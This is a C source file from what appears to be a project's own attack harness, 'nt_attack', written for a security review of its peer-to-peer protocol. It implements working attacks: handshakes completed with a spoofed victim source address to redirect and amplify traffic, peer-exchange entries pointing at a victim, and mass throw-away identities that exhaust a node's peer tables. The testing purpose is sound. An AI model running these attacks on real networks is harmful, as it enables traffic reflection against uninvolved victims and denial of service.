// SPDX-License-Identifier: MIT
/*
 * nt_attack's actions on where a node sends (issue 13 review): what a member, with the
 * token and identities it mints for nothing, can make a node believe of an address, and so
 * send there, or keep in its fixed tables.
 *   spoof-fin   throw-away identities complete handshakes whose last message (FIN) comes
 *               with a victim's source address (port + i for the i-th). With --relay,
 *               their INIT and the node's RESP travel inside our own session (we say we
 *               relay for them), so the FIN seems to end a round trip. Their sessions then
 *               send keepalives and gossip DIGESTs from our own socket, while the node's
 *               answers go where it thinks they live.
 *   pex         one PEX message naming endpoints at a victim, under random member IDs.
 *   mint-peers  throw-away identities complete real handshakes from our own socket and keep
 *               their sessions alive: each is a peer the node must hold.
 * A minted identity's handshake is any member's (src/handshake.c, we initiate); its local
 * handshake state lives only until its keys are made, so a thousand of them cost little.
 */
#include <arpa/inet.h>
#include <errno.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include <sodium.h>

#include "attack.h"
#include "proto/control.h"

enum {
	MINT_KEEPALIVE_MS = 10000, /* as our own session's */
	MINT_RETRY_MS = 1000,
	MINT_TRIES = 5,
	MINT_WINDOW = 16, /* handshakes in flight at once */
};

struct mint {
	struct nt_identity *id;
	struct nt_handshake_local *hsl; /* during the handshake only */
	struct nt_handshake hs;
	bool hs_ready, pending, failed;
	uint32_t index;
	uint64_t sent_ms;
	unsigned int tries;
	struct nt_keypair *kp; /* once the handshake is done */
	uint64_t last_tx_ms;
};

/* The minted identities of the current action, and how their handshakes travel. */
static struct {
	struct mint *m;
	unsigned int n, started, done, failed;
	bool relay; /* INIT and RESP inside our own session (RELAYED, RELAY) */
	bool spoof; /* FIN from `as` */
	union nt_sockaddr as;
	struct attack_counter sent; /* what we sent the node for them (frames on the wire) */
} mints;

static void mint_count(size_t bytes)
{
	mints.sent.n++;
	mints.sent.bytes += bytes;
}

/* Our own session's frames are counted too: they are what the attack costs. */
static int mint_send_relayed(struct harness *h, struct mint *m, const uint8_t *msg, size_t len)
{
	uint8_t body[NT_CTRL_RELAY_HDR + NT_HS_INIT_LEN];
	ssize_t n;

	if (len > NT_HS_INIT_LEN)
		return -EMSGSIZE;
	nt_control_relay_header(body, m->id->ed_pk);
	memcpy(body + NT_CTRL_RELAY_HDR, msg, len);
	n = attack_member_send(h, NT_CTRL_RELAYED, body, NT_CTRL_RELAY_HDR + len);
	if (n < 0)
		return (int)n;
	mint_count((size_t)n);
	return 0;
}

static int mint_send_init(struct harness *h, struct mint *m)
{
	uint8_t init[NT_HS_INIT_LEN];
	uint64_t now = nt_now_ms();
	int ret;

	ret = nt_handshake_create_init(&m->hs, m->hsl, m->index, nt_wall_ms(), now, init);
	if (ret < 0)
		return ret;
	m->pending = true;
	m->sent_ms = now;
	m->tries++;
	if (mints.relay)
		return mint_send_relayed(h, m, init, sizeof(init));
	ret = attack_send(h, init, sizeof(init), &h->node);
	if (ret == 0)
		mint_count(sizeof(init));
	return ret;
}

/* The handshake's local state goes; the keypair (if any) stays. */
static void mint_end(struct mint *m)
{
	if (m->hs_ready)
		nt_handshake_uninit(&m->hs);
	m->hs_ready = false;
	if (m->hsl) {
		nt_handshake_local_uninit(m->hsl);
		free(m->hsl);
		m->hsl = NULL;
	}
	m->pending = false;
}

static void mint_fail(struct mint *m)
{
	mint_end(m);
	m->failed = true;
	mints.failed++;
}

static int mint_begin(struct harness *h, struct mint *m)
{
	int ret;

	mints.started++; /* from here on, mint_free() cleans it up */
	ret = nt_identity_new_ephemeral(&m->id);
	if (ret < 0)
		return ret;
	m->hsl = calloc(1, sizeof(*m->hsl));
	if (!m->hsl)
		return -ENOMEM;
	ret = nt_handshake_local_init(m->hsl, m->id, h->keys, nt_now_ms());
	if (ret < 0) {
		free(m->hsl);
		m->hsl = NULL;
		return ret;
	}
	ret = nt_handshake_init(&m->hs);
	if (ret < 0)
		return ret;
	m->hs_ready = true;
	do
		m->index = randombytes_random();
	while (!m->index);
	return mint_send_init(h, m);
}

static struct mint *mint_by_index(uint32_t index)
{
	for (unsigned int i = 0; i < mints.started; i++)
		if (mints.m[i].pending && mints.m[i].index == index)
			return &mints.m[i];
	return NULL;
}

/* A RESP (or COOKIE_REPLY) for one of our minted INITs, direct or out of a RELAY. */
static void mint_on_handshake(struct harness *h, const uint8_t *buf, size_t len)
{
	struct nt_handshake_result res;
	uint8_t fin[NT_HS_FIN_LEN];
	uint64_t now = nt_now_ms();
	struct mint *m;
	uint32_t receiver;
	uint8_t type;
	int ret;

	if (!nt_handshake_peek(buf, len, &type, &receiver) || !(m = mint_by_index(receiver)))
		return;
	if (type == NT_HS_MSG_COOKIE_REPLY) {
		/* The node is under load: the next INIT carries mac2. */
		if (nt_handshake_consume_cookie_reply(&m->hs, m->hsl, buf, len, now) == NT_HS_OK &&
		    mint_send_init(h, m) < 0)
			mint_fail(m);
		return;
	}
	if (type != NT_HS_MSG_RESP ||
	    nt_handshake_consume_resp(&m->hs, m->hsl, buf, len, &h->node, now) != NT_HS_OK ||
	    nt_handshake_create_fin(&m->hs, m->hsl, now, fin) < 0) {
		mint_fail(m);
		return;
	}
	/* The last message: from the victim's address (a port each), or the way the INIT went. */
	if (mints.spoof) {
		union nt_sockaddr as = mints.as;

		as.in4.sin_port = htons((uint16_t)(ntohs(as.in4.sin_port) + (m - mints.m)));
		ret = attack_send_as(h, &as, &h->node, fin, sizeof(fin));
	}
	else if (mints.relay)
		ret = mint_send_relayed(h, m, fin, sizeof(fin));
	else
		ret = attack_send(h, fin, sizeof(fin), &h->node);
	if (ret == 0 && (mints.spoof || !mints.relay))
		mint_count(sizeof(fin)); /* (relayed ones are counted as they go) */
	if (ret < 0 || nt_handshake_finish(&m->hs, &res) < 0) {
		mint_fail(m);
		return;
	}
	ret = nt_session_keypair_new(&m->kp, res.send_key, res.recv_key, res.local_index,
				     res.remote_index, true, now);
	sodium_memzero(&res, sizeof(res));
	mint_end(m);
	if (ret < 0) {
		m->failed = true;
		mints.failed++;
		return;
	}
	mints.done++;
	/* The node holds the keys as "next" until our first frame on them: from our socket. */
	m->last_tx_ms = 0;
}

static void mint_tap(struct harness *h, const uint8_t *buf, size_t len,
		     const union nt_sockaddr *from)
{
	if (len && (buf[0] == NT_HS_MSG_RESP || buf[0] == NT_HS_MSG_COOKIE_REPLY) &&
	    nt_sockaddr_equal(from, &h->node))
		mint_on_handshake(h, buf, len);
}

/* A RELAY of the node's on our session: a handshake message for one of our identities. */
static void mint_on_control(struct harness *h, uint8_t type, const uint8_t *body, size_t len)
{
	const uint8_t *id, *frame;
	size_t flen;

	if (type == NT_CTRL_RELAY && nt_control_relay_decode(body, len, &id, &frame, &flen))
		mint_on_handshake(h, frame, flen);
}

/* Sends a frame on m's session from our own socket; counted. */
static int mint_send(struct harness *h, struct mint *m, uint8_t inner, const uint8_t *body,
		     size_t len)
{
	ssize_t n = attack_seal(h, m->kp, inner, body, len);
	int ret;

	if (n < 0)
		return (int)n;
	ret = attack_send(h, h->tx, (size_t)n, &h->node);
	if (ret < 0)
		return ret;
	m->last_tx_ms = nt_now_ms();
	mint_count((size_t)n);
	return 0;
}

/* Retries and keepalives of every minted identity. */
static void mint_tick(struct harness *h)
{
	uint64_t now = nt_now_ms();

	for (unsigned int i = 0; i < mints.started; i++) {
		struct mint *m = &mints.m[i];

		if (m->pending && now - m->sent_ms >= MINT_RETRY_MS) {
			if (m->tries >= MINT_TRIES || mint_send_init(h, m) < 0)
				mint_fail(m);
		} else if (m->kp && now - m->last_tx_ms >= MINT_KEEPALIVE_MS) {
			mint_send(h, m, NT_DATA_INNER_KEEPALIVE, NULL, 0);
		}
	}
}

static unsigned int mint_in_flight(void)
{
	return mints.started - mints.done - mints.failed;
}

/* Pumps for ms, keeping the minted sessions going. */
static void mint_pump(struct harness *h, uint64_t ms)
{
	uint64_t deadline = nt_now_ms() + ms;

	for (;;) {
		uint64_t now = nt_now_ms();

		mint_tick(h);
		if (now >= deadline)
			break;
		attack_pump(h, NT_MIN(deadline - now, 50));
	}
}

/*
 * Mints n identities and completes their handshakes, rate a second at most (0: as fast as
 * MINT_WINDOW in flight allows). 0 or -errno.
 */
static int mint_run(struct harness *h, unsigned int n, uint64_t rate)
{
	uint64_t t0 = nt_now_ms();
	int ret;

	mints.m = calloc(n, sizeof(*mints.m));
	if (!mints.m)
		return -ENOMEM;
	mints.n = n;
	h->tap = mint_tap;
	h->on_control = mint_on_control;
	while (mints.started < n) {
		if (mint_in_flight() >= MINT_WINDOW ||
		    (rate && nt_now_ms() < t0 + (uint64_t)mints.started * 1000 / rate)) {
			mint_pump(h, 5);
			continue;
		}
		ret = mint_begin(h, &mints.m[mints.started]);
		if (ret < 0) {
			attack_error("mint: identity %u: %s", mints.started, strerror(-ret));
			return ret;
		}
	}
	for (uint64_t deadline = nt_now_ms() + MINT_TRIES * MINT_RETRY_MS + 1000;
	     mint_in_flight() && nt_now_ms() < deadline;)
		mint_pump(h, 50);
	return 0;
}

static void mint_free(void)
{
	for (unsigned int i = 0; i < mints.started; i++) {
		mint_end(&mints.m[i]);
		nt_session_keypair_free(mints.m[i].kp);
		nt_identity_free(mints.m[i].id);
	}
	free(mints.m);
	memset(&mints, 0, sizeof(mints));
}

int attack_spoof_fin(struct harness *h, const struct attack_args *a)
{
	static const char *const known[] = { "as", "count", "relay", "digests", "hold", NULL };
	uint8_t digest[NT_GOSSIP_HDR_LEN + NT_LEDGER_HASH_LEN + 4];
	uint64_t count, relay, digests, hold;
	int ret;

	if (!attack_args_check(a, "spoof-fin", known) ||
	    !attack_parse_v4("--as", attack_opt(a, "as"), &mints.as) ||
	    !attack_opt_u64(a, "count", 8, &count) || !attack_opt_u64(a, "relay", 0, &relay) ||
	    !attack_opt_u64(a, "digests", 0, &digests) || !attack_opt_u64(a, "hold", 30, &hold) ||
	    count == 0 || count > 1024)
		return -EINVAL;
	ret = relay ? attack_member_join(h) : attack_net_load(h);
	if (ret < 0)
		return ret;
	mints.relay = relay != 0;
	mints.spoof = true;
	ret = mint_run(h, (unsigned int)count, 20);
	if (ret < 0)
		goto out;
	/* Their first frames (which confirm the keys), then DIGESTs, from our own socket. */
	mint_pump(h, 500);
	for (uint64_t k = 0; k < digests; k++) {
		for (unsigned int i = 0; i < mints.n; i++) {
			if (!mints.m[i].kp)
				continue;
			/* A digest unlike the node's: it answers with its summary. */
			digest[0] = NT_GOSSIP_VERSION;
			digest[1] = NT_GOSSIP_DIGEST;
			randombytes_buf(digest + NT_GOSSIP_HDR_LEN, sizeof(digest) - NT_GOSSIP_HDR_LEN);
			mint_send(h, &mints.m[i], NT_CTRL_GOSSIP, digest, sizeof(digest));
		}
		mint_pump(h, 1100); /* the node summarises for one member once a second */
	}
	mint_pump(h, hold * 1000);
	attack_report("spoof-fin", "as=%s:%u relay=%d identities=%u sessions=%u failed=%u sent=%llu "
		      "sent_bytes=%llu", inet_ntoa(mints.as.in4.sin_addr), ntohs(mints.as.in4.sin_port),
		      mints.relay, mints.n, mints.done, mints.failed, (unsigned long long)mints.sent.n,
		      (unsigned long long)mints.sent.bytes);
out:
	mint_free();
	return ret;
}

int attack_pex(struct harness *h, const struct attack_args *a)
{
	static const char *const known[] = { "endpoint", "count", "hold", NULL };
	uint8_t body[2 + NT_PEX_MAX * (32 + 1 + 16 + 2)];
	struct nt_pex pex = { .count = 0 };
	union nt_sockaddr ep;
	uint64_t count, hold;
	ssize_t n;
	int len;

	if (!attack_args_check(a, "pex", known) ||
	    !attack_parse_v4("--endpoint", attack_opt(a, "endpoint"), &ep) ||
	    !attack_opt_u64(a, "count", NT_PEX_MAX, &count) || !attack_opt_u64(a, "hold", 0, &hold) ||
	    count == 0 || count > NT_PEX_MAX)
		return -EINVAL;
	if (attack_member_join(h) < 0)
		return -ENOTCONN;
	/* Members nobody knows, at the victim's address, one port each. */
	for (uint64_t i = 0; i < count; i++) {
		randombytes_buf(pex.entries[i].id, 32);
		pex.entries[i].endpoint = ep;
		pex.entries[i].endpoint.in4.sin_port = htons((uint16_t)(ntohs(ep.in4.sin_port) + i));
	}
	pex.count = (unsigned int)count;
	len = nt_control_pex_encode(&pex, body, sizeof(body));
	if (len < 0)
		return len;
	n = attack_member_send(h, NT_CTRL_PEX, body, (size_t)len);
	if (n < 0) {
		attack_error("pex: send: %s", strerror((int)-n));
		return (int)n;
	}
	attack_report("pex", "endpoint=%s:%u count=%llu sent=1 sent_bytes=%zd",
		      inet_ntoa(ep.in4.sin_addr), ntohs(ep.in4.sin_port), (unsigned long long)count, n);
	attack_pump(h, hold * 1000);
	return 0;
}

int attack_mint_peers(struct harness *h, const struct attack_args *a)
{
	static const char *const known[] = { "rate", "hold", NULL };
	uint64_t count, rate, hold;
	int ret;

	if (!attack_args_check(a, "mint-peers", known) || !attack_opt_u64(a, "rate", 40, &rate) ||
	    !attack_opt_u64(a, "hold", 60, &hold) || !attack_parse_u64(attack_pos(a, 0), &count) ||
	    count == 0 || count > 4096) {
		attack_error("mint-peers N [--rate PER_S] [--hold S]");
		return -EINVAL;
	}
	ret = attack_net_load(h);
	if (ret < 0)
		return ret;
	ret = mint_run(h, (unsigned int)count, rate);
	if (ret < 0)
		goto out;
	mint_pump(h, 500);
	attack_report("mint-peers", "identities=%u sessions=%u failed=%u sent=%llu sent_bytes=%llu",
		      mints.n, mints.done, mints.failed, (unsigned long long)mints.sent.n,
		      (unsigned long long)mints.sent.bytes);
	mint_pump(h, hold * 1000);
	attack_report("mint-peers-held", "seconds=%llu sessions=%u", (unsigned long long)hold,
		      mints.done);
out:
	mint_free();
	return ret;
}
